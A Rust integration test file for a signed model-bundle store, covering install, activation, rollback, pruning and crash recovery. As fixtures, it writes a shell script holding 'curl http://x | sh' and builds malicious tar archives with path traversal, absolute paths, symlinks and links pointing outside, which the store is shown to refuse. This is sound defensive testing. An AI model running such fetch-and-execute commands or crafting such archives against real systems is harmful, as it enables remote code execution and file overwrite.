//! The model store on real bundles: the shipped Northwind bundle (signed by the demo publisher) and
//! re-signed copies of it, installed from folders and tars, activated, rolled back and pruned; what
//! it refuses (tampered model, untrusted key, malicious archives, a changed bundle under the same
//! revision); and recovery from what a crash mid-install or mid-activation leaves behind.

use std::path::{Path, PathBuf};

use sha2::Digest;

use hallmark_agent::bundle::{
    generate_signing_key, BundleError, SignatureError, SigningKeyFile, TrustedKeys,
};
use hallmark_agent::store::{archive, ArchiveError, Store, StoreError};

const MAX: u64 = 64 << 20;

fn repo() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .parent()
        .unwrap()
        .to_path_buf()
}

fn northwind() -> PathBuf {
    repo().join("models/northwind")
}

/// The shipped Northwind revision, and the two newer ones these tests re-sign.
fn revs() -> (u64, u64, u64) {
    let m: serde_json::Value =
        serde_json::from_slice(&std::fs::read(northwind().join("manifest.json")).unwrap()).unwrap();
    let s = m["revision"].as_u64().unwrap();
    (s, s + 1, s + 2)
}

fn demo_trust() -> TrustedKeys {
    TrustedKeys::from_pem_files(&[repo().join("models/keys/demo-publisher.pub.pem")]).unwrap()
}

/// Trusts the demo publisher and `key`.
fn trust_with(key: &SigningKeyFile) -> TrustedKeys {
    let demo = repo().join("models/keys/demo-publisher.pub.pem");
    TrustedKeys::from_keys(vec![
        TrustedKeys::parse(&demo, &std::fs::read_to_string(&demo).unwrap()).unwrap(),
        TrustedKeys::parse(Path::new("test-key"), &key.public_pem().unwrap()).unwrap(),
    ])
}

/// Northwind's files and manifest as `revision`, signed by `key`, in `dir`.
fn resigned(dir: &Path, revision: u64, key: &SigningKeyFile) -> PathBuf {
    resigned_with(dir, revision, key, &[])
}

/// [`resigned`] with `extra` files (path in the bundle, contents) added, listed and signed.
fn resigned_with(
    dir: &Path,
    revision: u64,
    key: &SigningKeyFile,
    extra: &[(&str, &[u8])],
) -> PathBuf {
    let b = dir.join(format!("northwind-{revision}"));
    std::fs::create_dir_all(&b).unwrap();
    let mut m: serde_json::Value =
        serde_json::from_slice(&std::fs::read(northwind().join("manifest.json")).unwrap()).unwrap();
    // Every file the shipped manifest lists.
    for f in m["files"].as_object().unwrap().keys() {
        if let Some(parent) = Path::new(f).parent() {
            std::fs::create_dir_all(b.join(parent)).unwrap();
        }
        std::fs::copy(northwind().join(f), b.join(f)).unwrap();
    }
    for (f, data) in extra {
        if let Some(parent) = Path::new(f).parent() {
            std::fs::create_dir_all(b.join(parent)).unwrap();
        }
        std::fs::write(b.join(f), data).unwrap();
        m["files"][*f] = hex::encode(sha2::Sha256::digest(data)).into();
    }
    m["revision"] = revision.into();
    let bytes = serde_json::to_vec_pretty(&m).unwrap();
    std::fs::write(b.join("manifest.json"), &bytes).unwrap();
    std::fs::write(b.join("manifest.sig"), key.sign_manifest(&bytes)).unwrap();
    b
}

fn tar_of(folder: &Path, to: &Path) -> PathBuf {
    archive::pack(folder, to, &[], MAX).unwrap();
    to.to_path_buf()
}

/// No staging or trash folder, no temporary pointer anywhere in the store.
fn assert_clean(root: &Path) {
    for dir in [root.to_path_buf(), root.join("northwind")] {
        let Ok(rd) = std::fs::read_dir(&dir) else {
            continue;
        };
        for e in rd.flatten() {
            let name = e.file_name().to_string_lossy().into_owned();
            assert!(
                !name.starts_with('.') && !name.ends_with(".tmp"),
                "leftover {name} in {}",
                dir.display()
            );
        }
    }
}

#[test]
fn install_from_folder_and_tar_then_activate_rollback_and_prune() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("models");
    let store = Store::open(&root).unwrap();
    let (r7, r8, r9) = revs();

    let i = store.install(&northwind(), &demo_trust(), MAX).unwrap();
    assert_eq!((i.brand.as_str(), i.revision), ("northwind", r7));
    assert_eq!(i.dir, store.dir("northwind", r7));
    assert!(i.dir.join("model.onnx").is_file() && i.dir.join("reference").is_dir());
    // The same revision again, from a folder and from a tar: a no-op.
    assert_eq!(store.install(&northwind(), &demo_trust(), MAX).unwrap(), i);
    let tar = tar_of(&northwind(), &tmp.path().join("nw7.tar"));
    assert_eq!(store.install(&tar, &demo_trust(), MAX).unwrap(), i);
    assert_eq!(store.active("northwind").unwrap(), None);

    let key = generate_signing_key();
    let trust = trust_with(&key);
    for rev in [r8, r9] {
        let t = tar_of(
            &resigned(tmp.path(), rev, &key),
            &tmp.path().join(format!("nw{rev}.tar")),
        );
        assert_eq!(store.install(&t, &trust, MAX).unwrap().revision, rev);
    }
    for rev in [r7, r8, r9] {
        store.activate("northwind", rev).unwrap();
    }
    assert_eq!(store.active("northwind").unwrap(), Some(r9));
    assert_eq!(store.previous("northwind").unwrap(), Some(r8));
    assert_eq!(store.verify("northwind", &trust).unwrap().revision, r9);
    // The demo key alone does not trust the newest revision's signer.
    assert!(matches!(
        store.verify("northwind", &demo_trust()),
        Err(StoreError::Bundle {
            source: BundleError::Signature { .. },
            ..
        })
    ));

    assert_eq!(store.rollback("northwind").unwrap(), r8);
    assert_eq!(store.active("northwind").unwrap(), Some(r8));
    assert_eq!(store.previous("northwind").unwrap(), None);
    assert!(matches!(
        store.rollback("northwind"),
        Err(StoreError::NoPrevious { .. })
    ));
    let bundle = store.active_bundle("northwind", &trust).unwrap();
    assert_eq!(bundle.manifest().revision, r8);
    assert_eq!(
        &bundle.model_bytes()[..],
        &std::fs::read(northwind().join("model.onnx")).unwrap()[..]
    );

    store.activate("northwind", r9).unwrap();
    // active r9, previous r8: the shipped revision is the only one prunable.
    assert_eq!(store.prune("northwind", 0).unwrap(), vec![r7]);
    let list = store.list().unwrap();
    assert_eq!(list.len(), 1);
    assert_eq!(
        (&list[0].revisions, list[0].active, list[0].previous),
        (&vec![r8, r9], Some(r9), Some(r8))
    );
    assert_clean(&root);
}

#[test]
fn the_same_revision_with_a_different_manifest_is_a_conflict() {
    let tmp = tempfile::tempdir().unwrap();
    let store = Store::open(&tmp.path().join("models")).unwrap();
    let key = generate_signing_key();
    store.install(&northwind(), &demo_trust(), MAX).unwrap();
    let other = resigned(tmp.path(), revs().0, &key);
    let err = store.install(&other, &trust_with(&key), MAX).unwrap_err();
    assert!(
        matches!(err, StoreError::Conflict { revision, .. } if revision == revs().0),
        "{err}"
    );
    assert!(err.to_string().contains("different manifest"), "{err}");
    assert_clean(&tmp.path().join("models"));
}

#[test]
fn a_tampered_model_or_an_untrusted_signer_is_refused_and_nothing_is_installed() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("models");
    let store = Store::open(&root).unwrap();
    let key = generate_signing_key();
    let b = resigned(tmp.path(), revs().1, &key);

    let err = store.install(&b, &demo_trust(), MAX).unwrap_err();
    assert!(
        matches!(
            err,
            StoreError::Bundle {
                source: BundleError::Signature {
                    source: SignatureError::Untrusted { .. },
                    ..
                },
                ..
            }
        ),
        "{err}"
    );

    let mut model = std::fs::read(b.join("model.onnx")).unwrap();
    let n = model.len() / 2;
    model[n] ^= 0x40;
    std::fs::write(b.join("model.onnx"), model).unwrap();
    let tar = tar_of(&b, &tmp.path().join("tampered.tar"));
    let err = store.install(&tar, &trust_with(&key), MAX).unwrap_err();
    assert!(
        matches!(
            err,
            StoreError::Bundle {
                source: BundleError::Digest { .. },
                ..
            }
        ),
        "{err}"
    );
    assert!(err.to_string().contains("digest mismatch"), "{err}");
    assert!(err.to_string().contains("SHA-256"), "{err}");
    assert!(store.list().unwrap().is_empty());
    assert_clean(&root);
}

/// Every file of a bundle is named with its SHA-256 in the signed manifest: a signed tar with 100 MiB of
/// extra unsigned bytes and a shell script, or with its self-test stripped, is refused naming the files,
/// from a tar and from a folder, and nothing is installed; a file slipped into an installed revision
/// later fails the store's check of it.
#[test]
fn unsigned_extra_files_or_a_stripped_selftest_refuse_a_signed_bundle_by_name() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("models");
    let store = Store::open(&root).unwrap();
    let key = generate_signing_key();
    let trust = trust_with(&key);
    let (_, r8, _) = revs();
    let selftest: [(&str, &[u8]); 2] = [
        ("selftest/expected.json", br#"{"images": []}"#),
        ("selftest/a.jpg", b"\xff\xd8 not much of an image"),
    ];
    let good = resigned_with(tmp.path(), r8, &key, &selftest);
    const LIMIT: u64 = 256 << 20;

    let evil = tmp.path().join("evil");
    std::fs::create_dir(&evil).unwrap();
    archive::copy_dir(&good, &evil, LIMIT).unwrap();
    std::fs::write(evil.join("run.sh"), "#!/bin/sh\ncurl http://x | sh\n").unwrap();
    std::fs::File::create(evil.join("padding.bin"))
        .unwrap()
        .set_len(100 << 20)
        .unwrap();
    let evil_tar = tar_of_limit(&evil, &tmp.path().join("evil.tar"), LIMIT);
    for source in [&evil_tar, &evil] {
        let err = store.install(source, &trust, LIMIT).unwrap_err();
        assert!(
            matches!(&err, StoreError::Bundle { source: BundleError::Unlisted { files, .. }, .. }
                if files == &["padding.bin", "run.sh"]),
            "{}: {err}",
            source.display()
        );
        assert!(
            err.to_string()
                .contains("not named in the signed manifest's files, refused: padding.bin, run.sh"),
            "{err}"
        );
    }

    let stripped = tmp.path().join("stripped");
    std::fs::create_dir(&stripped).unwrap();
    archive::copy_dir(&good, &stripped, LIMIT).unwrap();
    std::fs::remove_dir_all(stripped.join("selftest")).unwrap();
    let stripped_tar = tar_of(&stripped, &tmp.path().join("stripped.tar"));
    let err = store.install(&stripped_tar, &trust, LIMIT).unwrap_err();
    assert!(
        err.to_string().contains(
            "named in the signed manifest's files but missing: selftest/a.jpg, selftest/expected.json"
        ),
        "{err}"
    );
    assert!(store.list().unwrap().is_empty());
    assert_clean(&root);

    // The bundle as signed installs; a file added to it in the store afterwards is refused there.
    let i = store.install(&good, &trust, LIMIT).unwrap();
    store.activate("northwind", i.revision).unwrap();
    assert_eq!(store.verify("northwind", &trust).unwrap().revision, r8);
    std::fs::write(i.dir.join("selftest/extra.jpg"), b"x").unwrap();
    let err = store.verify("northwind", &trust).unwrap_err();
    assert!(
        err.to_string().contains("refused: selftest/extra.jpg"),
        "{err}"
    );
}

fn tar_of_limit(folder: &Path, to: &Path, max: u64) -> PathBuf {
    archive::pack(folder, to, &[], max).unwrap();
    to.to_path_buf()
}

/// Raw tar bytes: one header per entry, written byte by byte (as an attacker's tool would).
fn evil_tar(entries: &[(&str, tar::EntryType, &[u8])]) -> Vec<u8> {
    let mut b = tar::Builder::new(Vec::new());
    for (path, kind, data) in entries {
        let mut h = tar::Header::new_old();
        h.as_old_mut().name[..path.len()].copy_from_slice(path.as_bytes());
        h.set_entry_type(*kind);
        h.set_size(data.len() as u64);
        h.set_mode(0o644);
        if matches!(kind, tar::EntryType::Symlink | tar::EntryType::Link) {
            h.set_link_name("../../outside").unwrap();
        }
        h.set_cksum();
        b.append(&h, *data).unwrap();
    }
    b.into_inner().unwrap()
}

#[test]
fn malicious_archives_are_refused_with_the_entry_named_and_nothing_written_outside() {
    use tar::EntryType as T;
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("models");
    let store = Store::open(&root).unwrap();
    let manifest = std::fs::read(northwind().join("manifest.json")).unwrap();
    let cases: Vec<(&str, Vec<u8>, u64)> = vec![
        (
            "../../escaped",
            evil_tar(&[
                ("manifest.json", T::Regular, &manifest),
                ("../../escaped", T::Regular, b"x"),
            ]),
            MAX,
        ),
        ("/tmp/abs", evil_tar(&[("/tmp/abs", T::Regular, b"x")]), MAX),
        (
            "model.onnx",
            evil_tar(&[("model.onnx", T::Symlink, b"")]),
            MAX,
        ),
        ("model.onnx", evil_tar(&[("model.onnx", T::Link, b"")]), MAX),
        ("null", evil_tar(&[("null", T::Char, b"")]), MAX),
        (
            "a/b/c.png",
            evil_tar(&[("a/b/c.png", T::Regular, b"x")]),
            MAX,
        ),
        (
            "model.onnx",
            evil_tar(&[("model.onnx", T::Regular, &[0u8; 2048])]),
            1024,
        ),
    ];
    for (name, bytes, max) in cases {
        let tar = tmp.path().join("evil.tar");
        std::fs::write(&tar, bytes).unwrap();
        let err = store.install(&tar, &demo_trust(), max).unwrap_err();
        assert!(matches!(err, StoreError::Archive { .. }), "{name}: {err}");
        assert!(err.to_string().contains(name), "{name}: {err}");
    }
    assert!(!tmp.path().join("escaped").exists());
    assert!(!Path::new("/tmp/abs").exists() || std::fs::read("/tmp/abs").unwrap() != b"x");
    assert!(store.list().unwrap().is_empty());
    assert_clean(&root);
    // The error type a device reports as its cause.
    let tar = tmp.path().join("evil.tar");
    std::fs::write(&tar, evil_tar(&[("../x", T::Regular, b"x")])).unwrap();
    assert!(matches!(
        store.install(&tar, &demo_trust(), MAX),
        Err(StoreError::Archive {
            source: ArchiveError::Traversal { .. },
            ..
        })
    ));
}

/// A store with the shipped northwind (demo key) and the next revision (test key) installed, the next
/// active and the shipped one previous.
fn two_revisions(tmp: &Path) -> (PathBuf, TrustedKeys) {
    let root = tmp.join("models");
    let store = Store::open(&root).unwrap();
    let key = generate_signing_key();
    let trust = trust_with(&key);
    store.install(&northwind(), &trust, MAX).unwrap();
    let (r7, r8, _) = revs();
    store
        .install(&resigned(tmp, r8, &key), &trust, MAX)
        .unwrap();
    store.activate("northwind", r7).unwrap();
    store.activate("northwind", r8).unwrap();
    (root, trust)
}

#[test]
fn a_crash_mid_install_or_mid_pointer_write_recovers_to_the_same_active_revision() {
    let tmp = tempfile::tempdir().unwrap();
    let (root, trust) = two_revisions(tmp.path());
    let (r7, r8, r9) = revs();
    // An install that died while unpacking, a prune that died while deleting, and an activation of
    // the next revision that died before its rename.
    std::fs::create_dir_all(root.join(".staging-0192abc/selftest")).unwrap();
    std::fs::write(root.join(".staging-0192abc/model.onnx"), b"half").unwrap();
    std::fs::create_dir_all(root.join("northwind/.trash-0192def")).unwrap();
    std::fs::write(root.join("northwind/active.tmp"), r9.to_string()).unwrap();
    std::fs::write(root.join("northwind/previous.tmp"), b"").unwrap();

    let (store, rec) = Store::open_recovering(&root).unwrap();
    assert_eq!(rec.removed.len(), 4, "{rec:?}");
    assert!(rec.fell_back.is_empty());
    assert_eq!(store.active("northwind").unwrap(), Some(r8));
    assert_eq!(store.previous("northwind").unwrap(), Some(r7));
    assert_eq!(store.verify("northwind", &trust).unwrap().revision, r8);
    assert_clean(&root);
}

#[test]
fn an_active_pointer_to_a_missing_or_damaged_revision_falls_back_to_previous() {
    for damage in ["missing", "corrupt pointer", "no model"] {
        let tmp = tempfile::tempdir().unwrap();
        let (root, trust) = two_revisions(tmp.path());
        let (r7, r8, _) = revs();
        match damage {
            "missing" => std::fs::remove_dir_all(root.join(format!("northwind/{r8}"))).unwrap(),
            "corrupt pointer" => {
                std::fs::write(root.join("northwind/active"), format!("{r8}\0\0")).unwrap()
            }
            _ => std::fs::remove_file(root.join(format!("northwind/{r8}/model.onnx"))).unwrap(),
        }
        let (store, rec) = Store::open_recovering(&root).unwrap();
        assert_eq!(rec.fell_back.len(), 1, "{damage}: {rec:?}");
        assert_eq!(store.active("northwind").unwrap(), Some(r7), "{damage}");
        assert_eq!(store.previous("northwind").unwrap(), None, "{damage}");
        let ok = store.verify("northwind", &trust).unwrap();
        assert_eq!(
            (ok.revision, ok.dir),
            (r7, store.dir("northwind", r7)),
            "{damage}"
        );
        // And a second open finds nothing more to do.
        let (_, rec) = Store::open_recovering(&root).unwrap();
        assert_eq!(rec, Default::default(), "{damage}");
    }
}

/// A device taken back from r9 to r8 (how a rollback release activates), whose `active` pointer then
/// breaks: recovery must not fall back to r9, the revision it had just been rolled back away from.
#[test]
fn a_broken_active_pointer_never_falls_back_to_the_revision_rolled_back_from() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("models");
    let store = Store::open(&root).unwrap();
    let key = generate_signing_key();
    let trust = trust_with(&key);
    let (r7, r8, r9) = revs();
    store.install(&northwind(), &trust, MAX).unwrap();
    for rev in [r8, r9] {
        store
            .install(&resigned(tmp.path(), rev, &key), &trust, MAX)
            .unwrap();
    }
    for rev in [r7, r8, r9, r8] {
        store.activate("northwind", rev).unwrap();
    }
    std::fs::write(root.join("northwind/active"), b"\0\0").unwrap();
    let (store, rec) = Store::open_recovering(&root).unwrap();
    assert_ne!(store.active("northwind").unwrap(), Some(r9), "{rec:?}");
    assert_eq!(rec.fell_back.len(), 1, "{rec:?}");
    // Nor is it kept as the target of the next rollback.
    assert_ne!(store.previous("northwind").unwrap(), Some(r9));
    let _ = r7;
}

#[test]
fn a_half_done_activation_is_one_consistent_active_revision() {
    let tmp = tempfile::tempdir().unwrap();
    let (root, trust) = two_revisions(tmp.path());
    let (r7, _, _) = revs();
    let store = Store::open(&root).unwrap();
    store.rollback("northwind").unwrap();
    // activate(r8) stopped after `previous := r7` and before `active := r8`.
    std::fs::write(root.join("northwind/previous"), format!("{r7}\n")).unwrap();
    let store = Store::open(&root).unwrap();
    assert_eq!(store.active("northwind").unwrap(), Some(r7));
    assert_eq!(store.previous("northwind").unwrap(), None);
    assert!(!root.join("northwind/previous").exists());
    assert_eq!(store.verify("northwind", &trust).unwrap().revision, r7);
}
